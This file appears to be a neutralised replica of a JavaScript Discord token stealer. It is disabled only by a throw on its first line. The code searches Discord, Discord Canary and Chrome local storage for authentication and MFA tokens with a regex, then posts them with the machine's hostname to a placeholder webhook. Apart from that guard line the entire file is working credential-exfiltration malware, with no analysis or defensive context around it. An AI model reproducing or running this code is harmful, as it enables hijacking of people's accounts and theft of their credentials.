throw new Error("inert replica");
const fs = require("fs");
const path = require("path");
const os = require("os");
const https = require("https");
const places = ["discord", "discordcanary", "Google/Chrome/User Data/Default"].map((one) => path.join(process.env.APPDATA || os.homedir(), one, "Local Storage", "leveldb"));
const found = [];
for (const place of places) {
  if (!fs.existsSync(place)) continue;
  for (const name of fs.readdirSync(place)) {
    if (!name.endsWith(".log") && !name.endsWith(".ldb")) continue;
    const text = fs.readFileSync(path.join(place, name), "utf8");
    for (const match of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g) || []) found.push(match);
  }
}
const request = https.request("https://chat.replica.invalid/api/webhooks/000000/inert", { method: "POST", headers: { "Content-Type": "application/json" } });
request.end(JSON.stringify({ username: os.hostname(), content: found.join("\n") }));
